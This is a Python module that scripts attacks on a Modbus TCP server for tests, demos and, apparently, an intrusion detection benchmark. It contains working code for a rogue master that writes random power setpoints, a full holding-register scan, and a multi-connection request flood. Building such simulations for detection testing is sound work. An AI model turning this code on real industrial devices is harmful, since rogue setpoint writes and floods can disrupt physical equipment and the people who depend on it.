"""Scripted attacks on a Modbus server, for tests, demos and the IDS benchmark.

Each is what a hostile second master on the OT network would do: write the
setpoint register behind the gateway's back, scan the register map, or flood
the device with requests. A replay (frozen values) is a simulator fault.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
from enum import StrEnum

from pymodbus.client import AsyncModbusTcpClient
from pymodbus.exceptions import ModbusException


class Attack(StrEnum):
    """The scripted attacks, by the name `bessai simulate --attack` takes."""

    ROGUE_MASTER = "rogue_master"
    SCAN = "scan"
    REPLAY = "replay"
    FLOOD = "flood"


async def _ready(client: AsyncModbusTcpClient) -> None:
    """Before each request: honour a lost cancellation, wait out a dropped connection.

    Python 3.11's ``asyncio.wait_for`` (inside pymodbus' request) swallows a
    cancellation that lands just as the answer arrives, so a tight request loop
    may never see its ``cancel()``: the task's ``cancelling()`` count still
    says it was asked to stop. And once a connection has dropped (timeouts
    under load, a device restart) pymodbus raises "Not connected" at once,
    without awaiting: a loop that only suppressed that error would spin
    without ever yielding and freeze the event loop it shares with its target.
    """
    task = asyncio.current_task()
    if task is not None and task.cancelling():
        raise asyncio.CancelledError
    while not client.connected:
        await asyncio.sleep(0.2)
        await client.connect()


async def rogue_master(
    host: str,
    port: int,
    unit: int = 1,
    *,
    every_s: float = 2.0,
    seed: int = 0,
    timeout_s: float = 1.0,
) -> None:
    """Write random setpoints (i32 W at holding 0-1, the simulator's map) until cancelled."""
    rng = random.Random(seed)
    client = AsyncModbusTcpClient(host, port=port, timeout=timeout_s)
    await client.connect()
    try:
        while True:
            await _ready(client)
            watts = rng.choice([-1, 1]) * rng.randint(20_000, 90_000)
            raw = watts & 0xFFFFFFFF
            with contextlib.suppress(ModbusException):
                await client.write_registers(0, [raw >> 16, raw & 0xFFFF], device_id=unit)
            await asyncio.sleep(every_s)
    finally:
        client.close()


async def scan(
    host: str, port: int, unit: int = 1, *, stop_at: int = 65535, timeout_s: float = 1.0
) -> None:
    """Read every holding register one by one, as a reconnaissance tool does."""
    client = AsyncModbusTcpClient(host, port=port, timeout=timeout_s)
    await client.connect()
    try:
        for address in range(stop_at):
            await _ready(client)
            with contextlib.suppress(ModbusException):
                await client.read_holding_registers(address, count=1, device_id=unit)
    finally:
        client.close()


async def flood(
    host: str, port: int, unit: int = 1, *, connections: int = 4, timeout_s: float = 1.0
) -> None:
    """Saturate the device with back-to-back reads on several connections."""

    async def one() -> None:
        client = AsyncModbusTcpClient(host, port=port, timeout=timeout_s)
        await client.connect()
        try:
            while True:
                await _ready(client)
                with contextlib.suppress(ModbusException):
                    await client.read_input_registers(0, count=125, device_id=unit)
        finally:
            client.close()

    await asyncio.gather(*(one() for _ in range(connections)))
